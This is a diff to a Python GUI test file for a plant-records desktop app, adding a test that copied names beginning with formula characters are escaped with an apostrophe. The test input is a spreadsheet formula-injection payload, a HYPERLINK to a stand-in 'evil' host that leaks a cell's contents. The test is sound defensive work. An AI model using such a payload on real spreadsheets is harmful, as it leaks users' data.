@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 import time
 from typing import TYPE_CHECKING
 
@@ -8,7 +10,7 @@ from PySide6.QtCore import QPoint, Qt
 from PySide6.QtGui import QAccessible, QColor, QGuiApplication
 from PySide6.QtTest import QTest
 
-from plantdesk.records import FORM, Changes, PlantRow
+from plantdesk.records import FORM, Changes, PlantRow, new_plant
 from plantdesk.ui.metrics import M
 from plantdesk.ui.new_plants_pill import NewPlantsPill
 from plantdesk.ui.plant_cells import Column
@@ -229,15 +231,31 @@ def test_copied_names_keep_their_lines_inside_quotes(
     assert '101\t"two\nlines, a\ttab and a ""quote"""\t' in QGuiApplication.clipboard().text()
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_copied_name_is_a_formula(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, store: Store, start: str
+) -> None:
+    name = f'{start}HYPERLINK("http://evil/?"&B2)'
+    store.add(new_plant({"id": -5, "name": name, "tag": "+1"}), FORM).result(10)
+    qtbot.waitUntil(lambda: table.model().rowCount() == 101)
+    click_row(table, 0)
+    with qtbot.waitSignal(browser.told) as told:
+        QTest.keyClick(table, Qt.Key.Key_C, CONTROL)
+    text = QGuiApplication.clipboard().text().replace("\r\n", "\n")
+    (_, (plant_id, copied, tag, *_)) = csv.reader(io.StringIO(text, newline=""), "excel-tab")
+    assert (plant_id, copied, tag) == ("-5", "'" + name, "'+1")
+    assert told.args == ["Copied 1 plant. 2 cells that a spreadsheet would take for formulas begin with ' now."]
+
+
 def test_more_plants_than_a_clipboard_should_hold_are_refused_kindly(
     qtbot: QtBot, browser: PlantBrowser, table: PlantTable, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("plantdesk.ui.row_copier.MOST_ROWS", 99)
     QGuiApplication.clipboard().setText("before")
     table.selectAll()
-    with qtbot.waitSignal(browser.told) as told:
+    with qtbot.waitSignal(browser.refused) as refused:
         QTest.keyClick(table, Qt.Key.Key_C, CONTROL)
-    assert told.args == ["Up to 99 plants can be copied at once. Select fewer, then copy again."]
+    assert refused.args == ["Up to 99 plants can be copied at once. Select fewer, then copy again."]
     assert QGuiApplication.clipboard().text() == "before"
 
 
